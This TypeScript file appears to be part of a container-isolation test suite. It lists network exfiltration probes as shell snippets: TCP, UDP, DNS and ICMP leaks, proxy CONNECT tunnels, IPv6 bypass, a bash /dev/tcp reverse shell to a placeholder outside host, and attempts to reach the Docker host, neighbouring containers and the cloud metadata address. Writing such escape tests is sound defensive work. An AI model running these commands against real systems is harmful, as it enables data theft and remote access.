import type { Attack } from './attack.ts'

const threat = 'network exfiltration'

/** The way out of the container that its routing table names, or nothing. */
const DEFAULT_ROUTE = `
route=$(awk '$2 == "00000000" && $3 != "00000000" { print $3; exit }' /proc/net/route)
[ -n "$route" ] || stopped 'there is no route out'
machine=$(act address "$route" 0) || untried "$machine"
`

/** Through the proxy where there is one, and straight where there is none: an attacker takes what works. */
const BY_PROXY = `
proxy=$(act lookup egress) || proxy=
ask() { act tcp "$proxy" 3128 "$1" | head -n 1; }
`

export const networkAttacks: readonly Attack[] = [
  {
    id: 'attack.network.direct',
    threat,
    title: 'send data to an address out there (TCP)',
    needs: ['OUTSIDE', 'TCP'],
    how: { shell: 'does act tcp "$OUTSIDE" "$TCP" secret' },
  },
  {
    id: 'attack.network.other-port',
    threat,
    title: 'call a control server on an unusual port',
    needs: ['OUTSIDE', 'OTHER'],
    how: { shell: 'does act tcp "$OUTSIDE" "$OTHER" secret' },
  },
  {
    id: 'attack.network.plain-http',
    threat,
    title: 'put data into the address of a plain HTTP request',
    needs: ['OUTSIDE', 'TCP'],
    how: {
      shell: `
${BY_PROXY}
if [ -z "$proxy" ]; then does act tcp "$OUTSIDE" "$TCP" 'GET /?leak=secret HTTP/1.0

'; fi
answer=$(ask "GET http://$OUTSIDE:$TCP/?leak=secret HTTP/1.0

")
case $answer in *' 200 '*) through "$answer" ;; *' 4'*|*' 5'*) stopped "proxy: $answer" ;; esac
untried "$answer"`,
    },
  },
  {
    id: 'attack.network.tunnel',
    threat,
    title: 'have the proxy open a tunnel to an address it was not told of',
    needs: ['OUTSIDE', 'TCP'],
    how: {
      shell: `
${BY_PROXY}
if [ -z "$proxy" ]; then does act tcp "$OUTSIDE" "$TCP" secret; fi
answer=$(ask "CONNECT $OUTSIDE:$TCP HTTP/1.1

")
case $answer in *' 200 '*) through "$answer" ;; *' 4'*|*' 5'*) stopped "proxy: $answer" ;; esac
untried "$answer"`,
    },
  },
  {
    id: 'attack.network.udp',
    threat,
    title: 'send data in UDP packets',
    needs: ['OUTSIDE', 'UDP'],
    how: { shell: 'does act udp "$OUTSIDE" "$UDP" secret' },
  },
  {
    id: 'attack.network.dns-outside',
    threat,
    title: 'tunnel through DNS, to a resolver out there',
    needs: ['OUTSIDE', 'DNS'],
    how: { shell: 'does act dns "$OUTSIDE" "$DNS"' },
  },
  {
    id: 'attack.network.dns-own',
    threat,
    title: 'tunnel through DNS, by the resolver that the container was given',
    needs: ['NAME'],
    how: { shell: 'does act lookup "$NAME"' },
  },
  {
    id: 'attack.network.ipv6',
    threat,
    title: 'go around IPv4 rules with IPv6',
    needs: ['OUTSIDE6', 'TCP'],
    how: { shell: 'does act tcp6 "$OUTSIDE6" "$TCP"' },
  },
  {
    id: 'attack.network.ping',
    threat,
    title: 'send data in ICMP echoes',
    needs: ['OUTSIDE'],
    how: { shell: 'does act ping "$OUTSIDE"' },
  },
  {
    id: 'attack.network.reverse-shell',
    threat,
    title: 'hand a shell to somebody outside (bash, /dev/tcp)',
    needs: ['OUTSIDE', 'OTHER'],
    how: { shell: `does timeout 3 bash -c 'echo shell >/dev/tcp/$OUTSIDE/$OTHER'` },
  },
  {
    id: 'attack.network.route-host',
    threat,
    title: 'reach services of the Docker host by the container’s own route',
    needs: ['HOST_PORT'],
    how: { shell: `${DEFAULT_ROUTE}\ndoes act tcp "$machine" "$HOST_PORT" secret` },
  },
  {
    id: 'attack.network.host-address',
    threat,
    title: 'reach services of the Docker host by another of its addresses',
    needs: ['HOST', 'HOST_PORT'],
    how: { shell: 'does act tcp "$HOST" "$HOST_PORT" secret' },
  },
  {
    id: 'attack.network.host-bridge',
    threat,
    title: 'reach services of the Docker host at the first address of the container’s own networks',
    needs: ['HOST_PORT'],
    how: {
      shell: `
# Whether a route is set or not, the bridge may have an address: the first one of each network.
tried=
for network in $(awk '$2 != "00000000" && NR > 1 && $4 == "0001" { print $2 }' /proc/net/route); do
  machine=$(act address "$network" 1) || untried "$machine"
  tried="$tried $machine"
  seen=$(act tcp "$machine" "$HOST_PORT" secret) && through "$machine: $seen"
done
stopped "no answer:$tried"`,
    },
  },
  {
    id: 'attack.network.neighbour',
    threat,
    title: 'reach a container that belongs to something else',
    needs: ['NEIGHBOUR', 'NEIGHBOUR_PORT'],
    how: { shell: 'does act tcp "$NEIGHBOUR" "$NEIGHBOUR_PORT" secret' },
  },
  {
    id: 'attack.network.metadata',
    threat,
    title: 'reach link-local addresses (169.254.0.0/16)',
    needs: ['METADATA'],
    how: { shell: 'does act tcp 169.254.169.254 "$METADATA" secret' },
  },
]
